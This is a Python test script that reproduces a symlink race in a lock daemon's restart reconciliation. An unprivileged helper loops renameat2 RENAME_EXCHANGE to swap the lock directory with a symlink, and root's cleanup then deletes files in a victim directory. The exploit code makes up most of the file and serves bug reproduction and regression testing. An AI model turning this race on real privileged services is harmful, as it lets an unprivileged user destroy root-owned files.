#!/usr/bin/python3
"""Attack: reconcile's mkdir_undo_handoff follows a symlink swapped in
for the lock directory, and removes, with the holder's credentials, every
file of the directory it leads to.

Root holds an mkdir lock on D/x through the daemon, where D is a
directory nobody may write (not sticky).  The daemon restarts (any
restart).  While it starts, nobody exchanges D/x.lock with a symlink
D/s -> V (renameat2 RENAME_EXCHANGE, in a loop): orphan_look judges
D/x.lock (O_NOFOLLOW) as root's, then mkdir_undo_handoff opendir()s
D/x.lock again by name, following the symlink, and unlinks, as root,
every file of V except one named like root's marker.  V is root's
0755 directory: nobody could not remove anything in it.

Run as root from the build tree:  /usr/bin/python3 repro/mkdir_undo_follows_symlink.py
Exit 1 when V lost files (the defect), 0 when it held.
"""
import os
import sys
import time

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)),
                                "..", "tests"))
from lbdaemon import DaemonCase  # noqa: E402
import unittest  # noqa: E402

EXCHANGER = r"""
import ctypes, os, sys
libc = ctypes.CDLL(None, use_errno=True)
a, b = sys.argv[1].encode(), sys.argv[2].encode()
print("go", flush=True)
while True:
    libc.renameat2(-100, a, -100, b, 2)    # RENAME_EXCHANGE
"""


class MkdirUndoFollowsSymlink(DaemonCase):
    def test_attack(self):
        d = os.path.join(self.dir, "shared")
        os.mkdir(d)
        os.chmod(d, 0o777)                  # nobody may write; not sticky
        v = os.path.join(self.dir, "victim")
        os.mkdir(v)
        files = sorted("f%d" % i for i in range(20))
        for f in files:
            open(os.path.join(v, f), "w").close()
        p = os.path.join(d, "x")
        lk, s = p + ".lock", os.path.join(d, "s")
        os.symlink(v, s)
        for rnd in range(40):
            # Root (this process) holds the lock; the daemon dies.
            if os.path.islink(lk):
                os.rename(lk, d + "/tmp"); os.rename(s, lk)
                os.rename(d + "/tmp", s)
            c = self.client()
            r = c.call("ACQUIRE", path=p, method="mkdir", timeout=0)
            self.assertCode(r, "OK")
            self.daemon.kill()
            c.close()
            x = self.spawn(EXCHANGER.replace("sys.argv[1]", repr(lk))
                           .replace("sys.argv[2]", repr(s)), user="nobody")
            x.stdout.readline()
            self.daemon.start()
            x.kill(); x.wait()
            left = sorted(os.listdir(v))
            if left != files:
                print("round %d: root's %s lost %d files: %s left" %
                      (rnd, v, len(files) - len(left), left))
                print([l for l in self.daemon.logtext().splitlines()
                       if "left by a handoff" in l][:3])
                self.fail("reconcile removed root's files through "
                          "nobody's symlink")
        print("held over 40 restarts")


if __name__ == "__main__":
    unittest.main()
